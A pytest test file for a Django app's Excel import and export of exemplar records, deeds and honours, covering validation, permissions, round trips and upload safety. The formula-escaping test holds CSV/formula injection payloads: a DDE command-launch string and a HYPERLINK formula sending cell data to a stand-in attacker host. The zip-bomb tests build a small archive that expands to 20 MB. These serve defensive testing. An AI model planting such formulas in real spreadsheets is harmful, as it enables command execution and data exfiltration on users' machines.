"""Excel import and export of exemplars, deeds and honours (exemplars.spreadsheet):
all-or-nothing imports with every bad row listed, idempotent re-imports, export →
import round trips, formulas never live, and uploads checked by content."""

from __future__ import annotations

import datetime
import io
import zipfile
from typing import Any

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from jianxian.core import actions as core_actions
from jianxian.core.models import Event, Person, Unit
from jianxian.core.spreadsheet import WorkbookRejected, check_xlsx
from jianxian.exemplars import actions
from jianxian.exemplars.models import Deed, Exemplar, Honour, Quality
from jianxian.exemplars.spreadsheet import (
    ImportInvalid,
    can_import,
    export_workbook,
    import_workbook,
    write_template,
)
from jianxian.exemplars.tests.factories import (
    make_cast,
    make_exemplar,
    make_published,
    make_ready,
    with_status,
)

pytestmark = pytest.mark.django_db

EXEMPLAR_HEAD = ["编号", "名称", "类型", "所属单位代码", "领域", "层级", "简介", "精神内涵"]
DEED_HEAD = ["典型编号", "典型名称", "标题", "日期", "正文"]
HONOUR_HEAD = ["典型编号", "典型名称", "称号", "授予机关", "层级", "年份"]


def workbook(sheets: dict[str, Any]) -> bytes:
    """A workbook as a person writes it in Excel (a string starting with = is a formula)."""
    book = Workbook()
    for empty in book.worksheets:
        book.remove(empty)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def exported(exemplars) -> bytes:
    buffer = io.BytesIO()
    export_workbook(exemplars, buffer)
    return buffer.getvalue()


def quality(code: str, name: str) -> Quality:
    """The seeded vocabulary, or the quality made again where a flush removed it."""
    found = Quality.objects.filter(code=code).first()
    return found or actions.create_quality(actor=None, code=code, name=name)


def with_code(unit: Unit, code: str) -> Unit:
    return core_actions.update_unit(
        actor=None, unit=unit, version=unit.version, name=unit.name, kind=unit.kind, code=code
    )


def make_coded_cast() -> Any:
    """The exemplar tests' cast, with unit codes (the format names units by code)."""
    cast = make_cast()
    with_code(cast.tree.community, "XF")
    with_code(cast.tree.village, "XL")
    with_code(cast.tree.school, "SY")
    quality("responsibility", "担当精神")
    quality("selfless-dedication", "无私奉献")
    cast.tree.community.refresh_from_db()
    return cast


@pytest.fixture
def cast():
    return make_coded_cast()


def problems(exc: pytest.ExceptionInfo[ImportInvalid]) -> set[tuple[str, int, str]]:
    return {(e.sheet, e.row, e.column) for e in exc.value.errors}


GOOD: dict[str, list[list[Any]]] = {
    "典型": [
        EXEMPLAR_HEAD,
        [None, "周海燕", "个人", "XF", "社区", "区县", "扎根社区二十年。", "担当精神、无私奉献"],
        [None, "幸福社区网格服务队", "集體", "XF", "社區", "單位", "", "擔當精神"],
    ],
    "事迹": [
        DEED_HEAD,
        [
            None,
            "周海燕",
            "雨夜转移独居老人",
            datetime.date(2021, 7, 20),
            "暴雨之夜，她挨家挨户敲门。",
        ],
        [None, "周海燕", "调解邻里纠纷", "2019/5/4", "第一段。\n\n第二段。"],
        [None, "幸福社区网格服务队", "网格走访", "2022年3月1日", ""],
    ],
    "荣誉": [
        HONOUR_HEAD,
        [None, "周海燕", "全国优秀共产党员", "中共中央", "国家", 2021],
        [None, "幸福社区网格服务队", "市级文明单位", "市委", "市级", "2020年"],
    ],
}


# --- Importing ----------------------------------------------------------------


def test_happy_path_creates_drafts_with_deeds_honours_and_qualities(cast):
    result = import_workbook(workbook(GOOD), user=cast.organizer)
    assert (result.exemplars_created, result.deeds_created, result.honours_created) == (2, 3, 2)
    zhou = Exemplar.objects.get(name="周海燕")
    assert zhou.status == Exemplar.Status.DRAFT
    assert zhou.owner_unit == cast.unit and zhou.created_by == cast.organizer
    assert (zhou.kind, zhou.field, zhou.level) == ("person", "community", "district")
    assert zhou.external_name == "周海燕" and zhou.name_pinyin == "zhou hai yan"
    assert sorted(zhou.qualities.values_list("code", flat=True)) == [
        "responsibility",
        "selfless-dedication",
    ]
    deeds = {d.title: d for d in Deed.objects.filter(exemplar=zhou)}
    assert deeds["雨夜转移独居老人"].date == datetime.date(2021, 7, 20)
    assert deeds["调解邻里纠纷"].date == datetime.date(2019, 5, 4)
    assert deeds["调解邻里纠纷"].body_html == "<p>第一段。</p><p>第二段。</p>"
    team = Exemplar.objects.get(name="幸福社区网格服务队")
    assert (team.kind, team.field, team.level) == ("collective", "community", "unit")
    assert list(team.qualities.values_list("code", flat=True)) == ["responsibility"]
    assert Deed.objects.get(exemplar=team).date == datetime.date(2022, 3, 1)
    assert Honour.objects.get(exemplar=team).year == 2020
    honour = Honour.objects.get(exemplar=zhou)
    assert (honour.title, honour.conferred_by, honour.level) == (
        "全国优秀共产党员",
        "中共中央",
        "nation",
    )
    # Through the actions: each write has its event, by the importing user.
    events = Event.objects.filter(actor=cast.organizer)
    assert events.filter(verb="exemplar.create").count() == 2
    assert events.filter(verb="exemplar.add_deed").count() == 3
    assert events.filter(verb="exemplar.add_honour").count() == 2


def test_importing_the_same_file_again_writes_nothing(cast):
    data = workbook(GOOD)
    import_workbook(data, user=cast.organizer)
    events = Event.objects.count()
    again = import_workbook(data, user=cast.organizer)
    assert again.changes == 0
    assert (again.exemplars_unchanged, again.deeds_unchanged, again.honours_unchanged) == (2, 3, 2)
    assert Event.objects.count() == events
    assert Exemplar.objects.count() == 2 and Deed.objects.count() == 3


def test_dry_run_counts_and_writes_nothing(cast):
    events = Event.objects.count()
    result = import_workbook(workbook(GOOD), user=cast.organizer, dry_run=True)
    assert result.dry_run and result.exemplars_created == 2 and result.deeds_created == 3
    assert "nothing was written" in result.message()
    assert not Exemplar.objects.exists() and Event.objects.count() == events


def test_every_kind_of_row_error_is_reported_together_and_nothing_is_written(cast):
    under_review = with_status(make_ready(cast.unit, "审核中"), Exemplar.Status.UNDER_REVIEW)
    too_long = "长" * 201
    future = timezone.localdate() + datetime.timedelta(days=3)
    sheets = {
        "典型": [
            EXEMPLAR_HEAD,
            [None, "", "个人", "XF", "社区", "区县", "", ""],  # 2: no name
            [None, "甲", "英雄", "XF", "社区", "区县", "", ""],  # 3: unknown kind
            [None, "乙", "个人", "NOPE", "社区", "区县", "", ""],  # 4: unknown unit code
            [None, "丙", "个人", "XL", "社区", "区县", "", ""],  # 5: unit outside scope
            [None, "丁", "个人", "XF", "社区", "区县", "", "勇气"],  # 6: unknown quality
            [None, "戊", "个人", "XF", "航天", "银河", "", ""],  # 7: field and level
            [None, "己", "个人", "XF", "社区", "区县", "", ""],  # 8: fine
            [None, "己", "个人", "XF", "社区", "区县", "", ""],  # 9: duplicate of 8
            [99999, "庚", "", "", "", "", "", ""],  # 10: no such id
            [under_review.pk, "审核中", "", "", "", "", "改写。", ""],  # 11: frozen
            ["=1+1", "辛", "个人", "XF", "社区", "区县", "", ""],  # 12: a formula
            [None, "壬", None, None, None, None, "", ""],  # 13: new without kind/unit/…
        ],
        "事迹": [
            DEED_HEAD,
            [None, "己", "坏日期", "2021-13-40", ""],  # 2
            [None, "己", "未来", future, ""],  # 3
            [None, "己", too_long, None, ""],  # 4
            [None, "己", "重复", "2020-01-01", "一"],  # 5: fine
            [None, "己", "重复", "2020-01-01", "二"],  # 6: duplicate of 5
            [None, "无此人", "找不到", None, ""],  # 7: unknown exemplar name
            [None, None, "无主", None, ""],  # 8: no exemplar at all
            [under_review.pk, None, "新事迹", None, ""],  # 9: frozen exemplar
        ],
        "荣誉": [
            HONOUR_HEAD,
            [None, "己", "称号", "", "国家", 1900],  # 2: year out of range
            [None, "己", "称号", "", "宇宙", 2020],  # 3: unknown level
            [None, "己", "", "", "市", 2020],  # 4: no title
            [None, "己", "同一称号", "", "市", 2020],  # 5: fine
            [None, "己", "同一称号", "市委", "市", 2020],  # 6: duplicate of 5
        ],
    }
    events, exemplars = Event.objects.count(), Exemplar.objects.count()
    with pytest.raises(ImportInvalid) as exc:
        import_workbook(workbook(sheets), user=cast.organizer)
    assert problems(exc) == {
        ("典型", 2, "名称"),
        ("典型", 3, "类型"),
        ("典型", 4, "所属单位代码"),
        ("典型", 5, "所属单位代码"),
        ("典型", 6, "精神内涵"),
        ("典型", 7, "领域"),
        ("典型", 7, "层级"),
        ("典型", 9, "名称"),
        ("典型", 10, "编号"),
        ("典型", 11, "编号"),
        ("典型", 12, "编号"),
        ("典型", 13, "类型"),
        ("典型", 13, "所属单位代码"),
        ("典型", 13, "领域"),
        ("典型", 13, "层级"),
        ("事迹", 2, "日期"),
        ("事迹", 3, "日期"),
        ("事迹", 4, "标题"),
        ("事迹", 6, "标题"),
        ("事迹", 7, "典型名称"),
        ("事迹", 8, "典型编号"),
        ("事迹", 9, "典型编号"),
        ("荣誉", 2, "年份"),
        ("荣誉", 3, "层级"),
        ("荣誉", 4, "称号"),
        ("荣誉", 6, "称号"),
    }
    messages = {(e.sheet, e.row, e.column): e.message for e in exc.value.errors}
    assert "is also on row 8" in messages[("典型", 9, "名称")]
    assert "“英雄”" in messages[("典型", 3, "类型")] and "个人" in messages[("典型", 3, "类型")]
    assert "within your scope" in messages[("典型", 4, "所属单位代码")]
    assert "within your scope" in messages[("典型", 5, "所属单位代码")]  # exists, not confirmed
    assert "“Under review”" in messages[("典型", 11, "编号")]
    assert "formula" in messages[("典型", 12, "编号")]
    assert "future" in messages[("事迹", 3, "日期")]
    assert "too long" in messages[("事迹", 4, "标题")]
    assert "also on row 5" in messages[("事迹", 6, "标题")]
    assert "also on row 5" in messages[("荣誉", 6, "称号")]
    assert "between 1949 and" in messages[("荣誉", 2, "年份")]
    assert exc.value.summary.startswith("22 row(s) of the workbook have problems (26 in all)")
    # Errors come sheet by sheet, row by row.
    assert [(e.sheet, e.row) for e in exc.value.errors][:2] == [("典型", 2), ("典型", 3)]
    assert Event.objects.count() == events and Exemplar.objects.count() == exemplars
    assert not Deed.objects.filter(title="重复").exists()


def test_one_bad_row_among_good_ones_writes_nothing(cast):
    sheets = {**GOOD, "荣誉": [*GOOD["荣誉"], [None, "周海燕", "称号", "", "国家", "明年"]]}
    with pytest.raises(ImportInvalid) as exc:
        import_workbook(workbook(sheets), user=cast.organizer)
    assert problems(exc) == {("荣誉", 4, "年份")}
    assert not Exemplar.objects.exists() and not Deed.objects.exists()


def test_a_refusal_while_writing_rolls_back_everything(cast, monkeypatch):
    """An action that refuses (a rule the checks did not see) undoes the writes before it."""

    def refuse(**kwargs):
        from jianxian.core.errors import ActionError

        raise ActionError("refused by the action")

    monkeypatch.setattr(actions, "add_honour", refuse)
    with pytest.raises(ImportInvalid) as exc:
        import_workbook(workbook(GOOD), user=cast.organizer)
    assert [(e.sheet, e.row, e.message) for e in exc.value.errors] == [
        ("荣誉", 2, "refused by the action")
    ]
    assert not Exemplar.objects.exists() and not Deed.objects.exists()


def test_headers_sheets_and_labels_in_either_script_any_order(cast):
    sheets = {
        "說明": [["anything"]],
        "典型": [
            ["層級", "名稱", "備註", "所屬單位代碼", "類型", "領域"],
            ["市", "陳志強", "ignored", "XF", "個人", "政務治理"],
        ],
        "事蹟": [["標題", "典型名稱"], ["夜訪群眾", "陳志強"]],
    }
    result = import_workbook(workbook(sheets), user=cast.organizer)
    assert result.exemplars_created == 1 and result.deeds_created == 1
    exemplar = Exemplar.objects.get(name="陳志強")
    assert (exemplar.kind, exemplar.field, exemplar.level) == ("person", "governance", "city")


def test_english_codes_are_accepted(cast):
    sheets = {
        "典型": [
            EXEMPLAR_HEAD,
            [None, "最多跑一次", "practice", "XF", "governance", "city", "", ""],
        ]
    }
    import_workbook(workbook(sheets), user=cast.organizer)
    practice = Exemplar.objects.get(name="最多跑一次")
    assert practice.kind == "practice" and practice.external_name == ""


def test_header_problems_are_reported(cast):
    sheets = {
        "典型": [["编号", "类型", "类型"], [None, "个人", "个人"]],
        "事迹": [["标题"], ["无主事迹"]],
        "荣誉": [["典型名称", "称号"], ["某人", "劳模"]],
    }
    with pytest.raises(ImportInvalid) as exc:
        import_workbook(workbook(sheets), user=cast.organizer)
    assert problems(exc) == {
        ("典型", 1, "类型"),  # twice
        ("典型", 1, "名称"),  # missing
        ("事迹", 1, "典型编号"),  # neither id nor name
        ("荣誉", 1, "层级"),
        ("荣誉", 1, "年份"),
    }


def test_update_by_id_and_blank_cells_keep_what_is_stored(cast):
    exemplar = make_ready(cast.unit, "李正峰", actor=cast.organizer)
    actions.set_exemplar_qualities(
        actor=None, exemplar=exemplar, qualities=[quality("responsibility", "担当精神")]
    )
    sheets = {
        "典型": [
            EXEMPLAR_HEAD,
            [exemplar.pk, "李正峰", "", "", "教育", "", "", ""],
        ]
    }
    result = import_workbook(workbook(sheets), user=cast.organizer)
    assert result.exemplars_updated == 1
    exemplar.refresh_from_db()
    assert exemplar.field == "education" and exemplar.level == "city"  # level kept
    assert exemplar.summary == "李正峰的先进事迹。"  # blank summary kept
    assert list(exemplar.qualities.values_list("code", flat=True)) == ["responsibility"]
    assert Event.objects.filter(verb="exemplar.update", target_id=exemplar.pk).count() == 1


def test_a_new_row_matching_an_exemplar_of_its_unit_by_name_updates_it(cast):
    exemplar = make_ready(cast.unit, "王芳")
    sheets = {"典型": [EXEMPLAR_HEAD, [None, "王芳", "个人", "XF", "社区", "市", "新的简介。", ""]]}
    result = import_workbook(workbook(sheets), user=cast.organizer)
    assert (result.exemplars_created, result.exemplars_updated) == (0, 1)
    exemplar.refresh_from_db()
    assert exemplar.summary == "新的简介。" and exemplar.field == "community"


def test_deed_with_a_new_story_updates_the_stored_deed(cast):
    exemplar = make_ready(cast.unit, "张伟")
    deed = Deed.objects.get(exemplar=exemplar)
    sheets = {"事迹": [DEED_HEAD, [exemplar.pk, "张伟", deed.title, None, "改写的正文。"]]}
    result = import_workbook(workbook(sheets), user=cast.organizer)
    assert result.deeds_updated == 1 and result.deeds_created == 0
    deed.refresh_from_db()
    assert deed.body == "改写的正文。" and deed.version == 2


def test_published_exemplars_are_changed_by_reviewers_only(cast):
    published = make_published(cast.unit, "赵敏")
    sheets = {"荣誉": [HONOUR_HEAD, [published.pk, "赵敏", "三八红旗手", "市妇联", "市", 2018]]}
    with pytest.raises(ImportInvalid) as exc:
        import_workbook(workbook(sheets), user=cast.organizer)
    assert "Only a reviewer can change a published exemplar." in exc.value.errors[0].message
    result = import_workbook(workbook(sheets), user=cast.unit_admin)
    assert result.honours_created == 1


def test_an_exemplar_id_and_a_different_name_disagree(cast):
    exemplar = make_ready(cast.unit, "周杰")
    sheets = {"事迹": [DEED_HEAD, [exemplar.pk, "别人", "某事", None, ""]]}
    with pytest.raises(ImportInvalid) as exc:
        import_workbook(workbook(sheets), user=cast.organizer)
    assert problems(exc) == {("事迹", 2, "典型名称")}


def test_an_existing_exemplar_does_not_move_to_another_unit(cast):
    exemplar = make_ready(cast.unit, "安晓梅")
    sheets = {"典型": [EXEMPLAR_HEAD, [exemplar.pk, "安晓梅", "个人", "SY", "社区", "市", "", ""]]}
    with pytest.raises(ImportInvalid) as exc:
        import_workbook(workbook(sheets), user=cast.organizer)
    assert problems(exc) == {("典型", 2, "所属单位代码")}
    assert "does not move" in exc.value.errors[0].message


# --- Permissions ----------------------------------------------------------------


def test_units_outside_the_scope_are_refused(cast):
    """An organizer of the community adds nothing to a village of the other district,
    and an exemplar there they cannot see does not exist for them."""
    other = make_ready(cast.tree.village, "西岭村典型")
    sheets = {
        "典型": [EXEMPLAR_HEAD, [None, "越界", "个人", "XL", "社区", "区县", "", ""]],
        "事迹": [DEED_HEAD, [other.pk, None, "越界事迹", None, ""]],
    }
    with pytest.raises(ImportInvalid) as exc:
        import_workbook(workbook(sheets), user=cast.organizer)
    assert problems(exc) == {("典型", 2, "所属单位代码"), ("事迹", 2, "典型编号")}
    assert not Deed.objects.filter(title="越界事迹").exists()
    # The other district's organizer may.
    result = import_workbook(workbook(sheets), user=cast.other_organizer)
    assert result.exemplars_created == 1 and result.deeds_created == 1


def test_a_visible_unit_without_the_editor_role_is_refused(cast):
    """The verifier above sees the community but does not build its library."""
    sheets = {"典型": [EXEMPLAR_HEAD, [None, "审核员的", "个人", "XF", "社区", "区县", "", ""]]}
    with pytest.raises(ImportInvalid) as exc:
        import_workbook(workbook(sheets), user=cast.verifier)
    assert "You cannot add exemplars to unit" in exc.value.errors[0].message


def test_who_may_import(cast):
    assert can_import(cast.organizer) and can_import(cast.unit_admin)
    assert can_import(cast.city_admin)
    assert not can_import(cast.member) and not can_import(cast.verifier)
    assert not can_import(cast.viewer)


# --- Export and round trip ------------------------------------------------------


def test_export_then_import_writes_nothing(cast):
    import_workbook(workbook(GOOD), user=cast.organizer)
    published = make_published(cast.unit, "曾国华", public=True)
    actions.add_honour(actor=None, exemplar=published, title="劳动模范", level="city", year=2015)
    # Public exemplars elsewhere are in the organizer's export too, unchanged on import.
    make_published(cast.tree.village, "西岭公开典型", public=True)
    # Links to a person or unit of the platform survive (the file does not carry them).
    make_exemplar(cast.unit, "王社员", person=Person.objects.get(user=cast.member))
    make_exemplar(cast.unit, "网格工作法", kind="practice", subject_unit=cast.tree.team)
    visible = Exemplar.objects.visible_to(cast.organizer)
    data = exported(visible)
    events = Event.objects.count()
    result = import_workbook(data, user=cast.organizer)
    assert result.changes == 0
    assert result.exemplars_unchanged == 6 and result.deeds_unchanged == 5
    assert result.honours_unchanged == 3
    assert Event.objects.count() == events


def test_export_writes_the_import_format(cast):
    import_workbook(workbook(GOOD), user=cast.organizer)
    data = exported(Exemplar.objects.visible_to(cast.organizer))
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["典型", "事迹", "荣誉", "说明"]
    rows = list(book["典型"].iter_rows(values_only=True))
    assert rows[0] == tuple(EXEMPLAR_HEAD)
    zhou = Exemplar.objects.get(name="周海燕")
    assert (zhou.pk, "周海燕", "个人", "XF", "社区", "区县", "扎根社区二十年。") == rows[2][:7]
    assert rows[2][7] == "担当精神、无私奉献"
    deeds = list(book["事迹"].iter_rows(values_only=True))
    assert deeds[0] == tuple(DEED_HEAD) and len(deeds) == 4
    # By the exemplars' pinyin (幸福… before 周…), then by date.
    assert [row[2] for row in deeds[1:]] == ["网格走访", "调解邻里纠纷", "雨夜转移独居老人"]
    assert deeds[2][:2] == (zhou.pk, "周海燕")
    assert deeds[2][3] == datetime.datetime(2019, 5, 4)  # a date cell


def test_formulas_are_written_as_text_and_come_back_as_text(cast):
    exemplar = make_ready(cast.unit, "=cmd|' /C calc'!A0")
    title = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
    actions.add_deed(actor=None, exemplar=exemplar, title=title, body="+SUM(1,2)\n@x")
    actions.add_honour(actor=None, exemplar=exemplar, title="-1+1", level="unit", year=2020)
    data = exported(Exemplar.objects.filter(pk=exemplar.pk))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(archive.read(name) for name in sheets)
    assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    deed_cells = {cell.value: cell for row in book["事迹"].iter_rows() for cell in row}
    cell = deed_cells[title]
    assert cell.data_type == "s" and cell.quotePrefix  # Excel shows it literally
    assert book["典型"]["B2"].value == "=cmd|' /C calc'!A0"
    assert book["荣誉"]["C2"].data_type == "s"
    # Imported back: the same text, so nothing changes.
    result = import_workbook(data, user=cast.organizer)
    assert result.changes == 0 and result.deeds_unchanged == 2


def test_a_live_formula_in_an_uploaded_file_is_refused(cast):
    sheets = {
        "典型": [EXEMPLAR_HEAD, [None, "公式", "个人", "XF", "社区", "区县", '=HYPERLINK("x")', ""]]
    }
    with pytest.raises(ImportInvalid) as exc:
        import_workbook(workbook(sheets), user=cast.organizer)
    assert problems(exc) == {("典型", 2, "简介")}
    assert "formulas are refused" in exc.value.errors[0].message


def test_the_template_has_headers_notes_and_nothing_to_import(cast):
    buffer = io.BytesIO()
    write_template(buffer)
    book = load_workbook(io.BytesIO(buffer.getvalue()))
    assert book.sheetnames == ["典型", "事迹", "荣誉", "说明"]
    assert [c.value for c in book["荣誉"][1]] == HONOUR_HEAD
    notes = "\n".join(str(c.value) for row in book["说明"].iter_rows() for c in row if c.value)
    assert "经验做法" in notes and "担当精神" in notes and "国家" in notes
    with pytest.raises(WorkbookRejected, match="no rows to import"):
        import_workbook(buffer.getvalue(), user=cast.organizer)


# --- Upload safety ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ("name,code\n周海燕,XF\n".encode(), "not an Excel workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "old .xls"),
        (b"", "empty"),
    ],
)
def test_files_that_are_no_xlsx_are_refused(cast, data, message):
    with pytest.raises(WorkbookRejected, match=message):
        import_workbook(data, user=cast.organizer)


def test_a_zip_that_is_no_workbook_is_refused(cast):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    with pytest.raises(WorkbookRejected, match="not an Excel workbook"):
        import_workbook(buffer.getvalue(), user=cast.organizer)


def test_a_damaged_workbook_is_refused(cast):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<not really")
    with pytest.raises(WorkbookRejected, match="not an Excel workbook"):
        import_workbook(buffer.getvalue(), user=cast.organizer)


def test_a_zip_bomb_is_refused_before_it_is_opened(cast, monkeypatch):
    opened = []
    monkeypatch.setattr(
        "jianxian.exemplars.spreadsheet.reader.open_workbook", lambda raw: opened.append(raw)
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (20 * 1024 * 1024))
    assert len(buffer.getvalue()) < 100_000
    with pytest.raises(WorkbookRejected, match="refused as unsafe"):
        import_workbook(buffer.getvalue(), user=cast.organizer)
    assert opened == []


def test_the_total_expanded_size_is_capped():
    data = workbook({"典型": [EXEMPLAR_HEAD]})
    check_xlsx(data)
    with pytest.raises(WorkbookRejected, match="refused as unsafe"):
        check_xlsx(data, max_uncompressed=1000)


def test_a_file_over_the_size_cap_is_refused(cast, settings):
    data = workbook(GOOD)
    settings.UPLOAD_MAX_BYTES = len(data) - 1
    with pytest.raises(WorkbookRejected, match="larger than"):
        import_workbook(io.BytesIO(data), user=cast.organizer)
    settings.UPLOAD_MAX_BYTES = len(data)
    assert import_workbook(io.BytesIO(data), user=cast.organizer).exemplars_created == 2


def test_too_many_rows_are_refused(cast, monkeypatch):
    monkeypatch.setattr("jianxian.exemplars.spreadsheet.reader.MAX_ROWS", 3)
    with pytest.raises(WorkbookRejected, match="more than 3 rows"):
        import_workbook(workbook(GOOD), user=cast.organizer)
